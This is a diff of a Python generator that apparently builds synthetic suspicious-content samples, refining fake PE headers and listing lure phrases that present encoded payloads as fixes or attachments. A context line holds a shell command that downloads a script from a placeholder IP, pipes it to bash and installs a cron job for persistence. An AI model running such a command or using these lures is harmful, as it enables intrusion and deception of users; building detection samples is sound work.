@@ -65,7 +65,10 @@ SCRIPTS = [
     'wget -q -O- http://203.0.113.{n}/m.sh | bash; crontab -l | {{ cat; echo "*/5 * * * * /tmp/.m"; }} | crontab -\n',
 ]
 def elf(): return b'\x7fELF\x02\x01\x01\x00' + bytes(8) + b'\x02\x00\x3e\x00\x01\x00\x00\x00' + rbytes(r.randint(90, 160))
-def pe(): return b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + bytes(44) + b'\x80\x00\x00\x00' + rbytes(r.randint(60, 120))
+def pe():
+    stub = b'\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$' + bytes(7)
+    head = b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + bytes(44) + b'\x80\x00\x00\x00' + stub
+    return head + bytes(0x80 - len(head)) + b'PE\x00\x00\x4c\x01' + rbytes(r.randint(40, 90))
 LEADS_B64 = ['the helper it left behind (base64):', 'binary from the crash folder, base64:', 'firmware_patch.b64:', 'attached as base64 since the upload failed:']
 LEADS_SCRIPT = ['macro text (base64, paste into the editor):', 'setup snippet, encoded so the form accepts it:', 'run this fix, base64:', 'hex dump of the script:']
 
